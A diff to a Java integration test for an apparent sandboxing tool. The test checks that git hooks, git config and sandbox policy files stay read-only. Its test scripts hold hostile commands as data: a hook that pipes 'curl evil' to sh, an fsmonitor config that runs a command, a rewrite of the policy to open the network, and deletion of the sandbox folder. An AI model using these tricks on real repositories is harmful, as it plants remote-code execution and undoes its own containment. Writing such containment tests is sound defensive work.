@@ -37,7 +37,7 @@ class ProtectedPathsIT {
         String configBefore = read(".git/config");
         String policyBefore = read(".airlock/profiles/workspace-write.json");
 
-        var result = cli.run("run", "--workspace", workspace.toString(), "--", "sh", "-c",
+        var result = opaque(
                 "echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; "
                         + "git config core.fsmonitor 'touch /tmp/pwned'; printf '[core]\\n\\tfsmonitor = x\\n' >> .git/config; "
                         + "echo '{\"network\": \"open\"}' > .airlock/profiles/workspace-write.json; rm -rf .airlock; mv .git/hooks h; "
@@ -64,10 +64,17 @@ class ProtectedPathsIT {
     void aRepositoryWithoutAHooksFolderGetsAProtectedOne() throws Exception {
         deleteTree(workspace.resolve(".git/hooks"));
 
-        var result = cli.run("run", "--workspace", workspace.toString(), "--", "sh", "-c", "echo x > .git/hooks/post-checkout");
+        var result = opaque("echo x > .git/hooks/post-checkout");
 
         assertThat(result.err()).contains("Read-only file system");
         assertThat(workspace.resolve(".git/hooks")).isEmptyDirectory();
+    }
+
+    /** The script hidden from the assessment, so the container alone stands in its way. */
+    private Cli.Result opaque(String script) {
+        var args = new java.util.ArrayList<>(java.util.List.of("run", "--no-retry", "--workspace", workspace.toString(), "--"));
+        args.addAll(dev.airlock.testing.Scripts.opaque(script));
+        return cli.run(args.toArray(String[]::new));
     }
 
     private String read(String rel) {
